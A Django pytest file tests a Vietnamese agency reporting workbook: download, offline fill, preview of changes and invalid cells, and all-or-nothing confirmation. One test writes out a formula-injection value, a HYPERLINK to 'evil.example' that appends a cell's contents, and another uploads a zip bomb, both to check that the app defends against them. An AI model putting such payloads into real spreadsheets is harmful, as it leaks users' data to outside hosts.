"""The agency workbook round trip: download, fill offline, preview (changes and every invalid
cell), confirm to save drafts; a bad workbook saves nothing."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from evidence import services
from evidence.models import Submission
from tests.evidence.reporting_factories import make_world, pdf_bytes, zip_bomb_docx


@pytest.fixture
def world(agency_a, agency_b):
    return make_world(agency_a, agency_b)


def download(client, world):
    resp = client.get(reverse("evidence:workbook_download", args=[world.period.pk]))
    assert resp.status_code == 200
    assert "attachment" in resp["Content-Disposition"]
    return load_workbook(io.BytesIO(resp.content))


def to_upload(wb, name="bao-cao.xlsx"):
    buf = io.BytesIO()
    wb.save(buf)
    return SimpleUploadedFile(name, buf.getvalue())


def preview(client, world, f):
    return client.post(reverse("evidence:workbook_upload", args=[world.period.pk]), {"file": f})


def confirm(client, world):
    return client.post(reverse("evidence:workbook_confirm", args=[world.period.pk]))


@pytest.mark.django_db
def test_workbook_lists_assigned_items_with_vietnamese_labels(world, user_a, client_as):
    wb = download(client_as(user_a), world)
    assert wb.sheetnames[0] == "Hướng dẫn"
    guide = [c.value for c in wb["Hướng dẫn"]["A"] if c.value]
    assert any("cộng dồn từ đầu năm (lũy kế)" in line for line in guide)  # each period alone
    assert "1.1" in wb.sheetnames and "1.2" in wb.sheetnames
    ws = wb["1.1"]
    assert ws["A1"].value.startswith("1.1. Tỷ lệ cán bộ chuyên trách")
    assert [ws.cell(row=3, column=c).value for c in (1, 2, 3)] == [
        "Số CCVC chuyên trách",
        "Tổng số CCVC",
        "Giải trình",
    ]
    assert "Phối hợp" in ws["A2"].value
    assert "Chủ trì" in wb["1.2"]["A2"].value
    assert wb["1.2"].cell(row=3, column=1).value == "Đã ban hành"
    # B's workbook has only what B is assigned (1.1 through its group)
    wb_b = download(client_as(world.lead_user), world)
    assert "1.2" not in wb_b.sheetnames


@pytest.mark.django_db
def test_round_trip_preview_then_confirm_saves_drafts(world, user_a, client_as):
    c = client_as(user_a)
    wb = download(c, world)
    wb["1.1"]["A5"] = 3
    wb["1.1"]["B5"] = "4"
    wb["1.1"]["C5"] = "Theo báo cáo quý"
    wb["1.2"]["A5"] = "Có"
    resp = preview(c, world, to_upload(wb))
    assert resp.status_code == 200
    html = resp.content.decode()
    assert "Xác nhận lưu bản nháp" in html and "Theo báo cáo quý" in html
    assert not Submission.objects.exists()  # the preview saves nothing
    assert confirm(c, world).status_code == 302
    subs = {s.indicator.code: s for s in Submission.objects.all()}
    assert subs["1.1"].values == {"numerator": "3", "denominator": "4"}
    assert subs["1.1"].note == "Theo báo cáo quý"
    assert subs["1.2"].values == {"done": "1"} and subs["1.2"].self_points == 5
    assert all(s.state == "draft" and s.agency_id == user_a.agency_id for s in subs.values())
    # downloading again gives the saved values; uploading it unchanged changes nothing
    wb2 = download(c, world)
    assert wb2["1.1"]["A5"].value == 3 and wb2["1.2"]["A5"].value == "Có"
    resp = preview(c, world, to_upload(wb2))
    assert "không có thay đổi" in resp.content.decode()
    # an edit of the saved values goes through the version check
    wb2["1.1"]["A5"] = "3,5"
    assert preview(c, world, to_upload(wb2)).status_code == 200
    assert confirm(c, world).status_code == 302
    sub = Submission.objects.get(indicator=world.ratio)
    assert sub.values["numerator"] == "3.5" and sub.version == 2


@pytest.mark.django_db
def test_bad_workbook_shows_every_invalid_cell_and_saves_nothing(world, user_a, client_as):
    c = client_as(user_a)
    wb = download(c, world)
    wb["1.1"]["A5"] = 9
    wb["1.1"]["B5"] = 4  # numerator > denominator
    wb["1.2"]["A5"] = "có lẽ"  # not a yes/no
    resp = preview(c, world, to_upload(wb))
    assert resp.status_code == 400
    html = resp.content.decode()
    assert "Trang 1.1, ô A5" in html and "không được lớn hơn" in html
    assert "Trang 1.2, ô A5" in html and "Có hoặc Không" in html
    assert "Xác nhận lưu bản nháp" not in html
    assert confirm(c, world).status_code == 302  # nothing to confirm
    assert not Submission.objects.exists()


@pytest.mark.django_db
def test_stale_workbook_refused(world, user_a, client_as):
    c = client_as(user_a)
    services.submission_create(
        actor=user_a,
        indicator=world.ratio,
        period=world.period,
        values={"numerator": "1", "denominator": "2"},
    )
    wb = download(c, world)
    sub = Submission.objects.get()
    services.submission_update(
        submission=sub,
        actor=user_a,
        version=sub.version,
        values={"numerator": "2", "denominator": "2"},
    )
    wb["1.1"]["A5"] = 0
    resp = preview(c, world, to_upload(wb))
    assert resp.status_code == 400 and "tải tệp mới" in resp.content.decode()
    assert Submission.objects.get().values["numerator"] == "2"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "fragment"),
    [
        ("bao-cao.xlsx", pdf_bytes(), "không khớp"),
        ("bao-cao.xlsx", zip_bomb_docx(), "zip bomb"),
        ("bao-cao.pdf", pdf_bytes(), ".xlsx"),
    ],
)
def test_hostile_or_wrong_files_refused(world, user_a, client_as, name, content, fragment):
    resp = preview(client_as(user_a), world, SimpleUploadedFile(name, content))
    assert resp.status_code == 400
    assert fragment in resp.content.decode()
    assert not Submission.objects.exists()


@pytest.mark.django_db
def test_another_agencys_workbook_refused(world, user_a, user_b, client_as):
    wb = download(client_as(user_a), world)
    wb["1.1"]["A5"] = 1
    wb["1.1"]["B5"] = 1
    resp = preview(client_as(user_b), world, to_upload(wb))
    assert resp.status_code == 400 and "cơ quan khác" in resp.content.decode()
    assert not Submission.objects.exists()


@pytest.mark.django_db
def test_confirm_is_all_or_nothing(world, user_a, client_as):
    c = client_as(user_a)
    wb = download(c, world)
    wb["1.1"]["A5"] = 1
    wb["1.1"]["B5"] = 2
    wb["1.2"]["A5"] = "Có"
    assert preview(c, world, to_upload(wb)).status_code == 200
    # meanwhile a colleague saves 1.2 on the web: the confirmation must save nothing at all
    services.submission_create(
        actor=user_a, indicator=world.yes_no, period=world.period, values={"done": "0"}
    )
    resp = confirm(c, world)
    assert resp.status_code == 302
    assert list(Submission.objects.values_list("indicator__code", flat=True)) == ["1.2"]
    assert Submission.objects.get().values == {"done": "0"}


@pytest.mark.django_db
def test_workbook_is_for_agency_staff_only(world, reviewer, leader, client_as):
    for user in (reviewer, leader):
        c = client_as(user)
        assert (
            c.get(reverse("evidence:workbook_download", args=[world.period.pk])).status_code == 403
        )
        resp = c.post(
            reverse("evidence:workbook_upload", args=[world.period.pk]),
            {"file": SimpleUploadedFile("a.xlsx", b"x")},
        )
        assert resp.status_code in (400, 403)
    assert not Submission.objects.exists()


@pytest.mark.django_db
def test_saved_text_comes_back_as_text_never_a_formula(world, user_a, client_as):
    """A note typed like a formula is written back to the agency's workbook as text, and
    uploading that workbook unchanged changes nothing."""
    hostile = '=HYPERLINK("https://evil.example/"&A5,"Bấm vào đây")'
    services.submission_create(
        actor=user_a,
        indicator=world.ratio,
        period=world.period,
        values={"numerator": "1", "denominator": "2"},
        note=hostile,
    )
    c = client_as(user_a)
    wb = download(c, world)
    cell = wb["1.1"]["C5"]
    assert cell.value == hostile and cell.data_type == "s"
    assert "không có thay đổi" in preview(c, world, to_upload(wb)).content.decode()


@pytest.mark.django_db
def test_lead_workbook_carries_its_own_part(world, user_a, client_as):
    """The lead's sheet has its own part's columns (as the item page): figures equal to the
    coordinators' plus its own part need no adjustment reason; a bad own cell is named."""
    sub = services.submission_create(
        actor=user_a,
        indicator=world.ratio,
        period=world.period,
        values={"numerator": "3", "denominator": "4"},
    )
    services.submission_submit(submission=sub, actor=user_a, version=sub.version)
    c = client_as(world.lead_user)
    wb = download(c, world)
    ws = wb["1.1"]
    assert [ws.cell(row=3, column=col).value for col in range(1, 7)] == [
        "Số CCVC chuyên trách",
        "Tổng số CCVC",
        "Phần riêng của cơ quan chủ trì: Số CCVC chuyên trách",
        "Phần riêng của cơ quan chủ trì: Tổng số CCVC",
        "Giải trình",
        "Lý do điều chỉnh số liệu tổng hợp",
    ]
    ws["A5"], ws["B5"], ws["C5"], ws["D5"] = 5, 8, -2, 4
    html = preview(c, world, to_upload(wb)).content.decode()
    assert "Trang 1.1, ô C5" in html and "không được âm" in html
    ws["C5"] = 2
    resp = preview(c, world, to_upload(wb))
    assert resp.status_code == 200, resp.content.decode()[:2000]
    assert "cần ghi lý do" not in resp.content.decode()
    assert confirm(c, world).status_code == 302
    lead_sub = Submission.objects.get(agency=world.lead)
    assert lead_sub.values == {"numerator": "5", "denominator": "8"}
    assert lead_sub.own_values == {"numerator": "2", "denominator": "4"}
    wb2 = download(c, world)  # the stored part comes back
    assert (wb2["1.1"]["C5"].value, wb2["1.1"]["D5"].value) == (2, 4)


@pytest.mark.django_db
def test_lead_workbook_queries_do_not_grow_with_its_led_items(world, agency_a):
    """Building the lead's workbook reads who coordinates its items in a fixed number of
    queries, not two per item it leads."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from evidence.services.workbook import workbook_build
    from tests.evidence.reporting_factories import make_ratio_indicator

    def build() -> int:
        with CaptureQueriesContext(connection) as ctx:
            workbook_build(user=world.lead_user, period=world.period)
        return len(ctx.captured_queries)

    few = build()
    for n in range(5):
        ind = make_ratio_indicator(world.framework, f"1.{n + 10}", world.lead)
        ind.coordinating_agencies.add(agency_a)
    assert build() <= few + 1  # one query of the measures' prefetch at most


@pytest.mark.django_db
def test_workbook_with_a_damaged_version_cell_is_refused_not_a_server_error(
    world, user_a, client_as
):
    """The hidden information sheet edited by hand (or by another spreadsheet program): the
    version seen is unreadable, so the changed item is refused as stale, never a 500."""
    c = client_as(user_a)
    c.raise_request_exception = False
    services.submission_create(
        actor=user_a,
        indicator=world.ratio,
        period=world.period,
        values={"numerator": "1", "denominator": "2"},
    )
    wb = download(c, world)
    meta = wb["_meta"]
    row = next(r for r in meta.iter_rows() if r[0].value == "sheet" and r[1].value == "1.1")
    row[3].value = "phiên bản 1"
    wb["1.1"]["A5"] = 0
    resp = preview(c, world, to_upload(wb))
    assert resp.status_code == 400 and "tải tệp mới" in resp.content.decode()
    assert Submission.objects.get().values["numerator"] == "1"
